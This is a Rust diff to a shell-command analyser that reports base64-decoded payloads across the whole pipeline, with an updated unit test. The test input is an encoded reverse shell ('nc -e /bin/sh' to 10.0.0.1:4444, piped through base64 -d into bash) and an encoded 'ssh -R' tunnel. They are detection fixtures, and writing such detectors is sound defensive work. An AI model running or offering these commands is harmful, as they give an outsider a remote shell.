@@ -1074,11 +1074,16 @@ impl Walker {
             }
         };
         if let Some((text, decoder)) = payload {
+            // What runs came from the whole pipeline (`echo ... | base64 -d | sh`):
+            // report it there, so the evidence shows the encoded payload too.
+            let me = &self.out.commands[idx];
+            let start = self.out.commands.iter().filter(|c| c.pipeline == me.pipeline && c.depth == me.depth).map(|c| c.span.0).min().unwrap_or(me.span.0);
+            let span = (start.min(me.span.0), me.span.1);
             if let Some(enc) = decoder {
-                let span = self.out.commands[idx].span;
                 self.out.signals.push(Signal { kind: SignalKind::DecodedPayload(enc), span, detail: text.trim().to_string() });
             }
             inner.depth += 1;
+            inner.span = Some(span);
             self.parse(&text, inner);
         }
     }
@@ -1423,8 +1428,10 @@ mod tests {
     #[test]
     fn decoded_payloads_are_analysed() {
         // "nc -e /bin/sh 10.0.0.1 4444"
-        let a = analyze("echo bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 | base64 -d | bash", &Limits::default());
+        let input = "echo bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 | base64 -d | bash";
+        let a = analyze(input, &Limits::default());
         let nc = find(&a, "nc");
+        assert_eq!(&input[nc.span.0..nc.span.1], input, "a decoded command is reported at the whole pipeline");
         assert_eq!(nc.args(), ["-e", "/bin/sh", "10.0.0.1", "4444"]);
         assert!(a.signals.iter().any(|s| s.kind == SignalKind::DecodedPayload("base64")));
         let a = analyze("$(echo c3No | base64 -d) -R 1:h:2 x", &Limits::default());
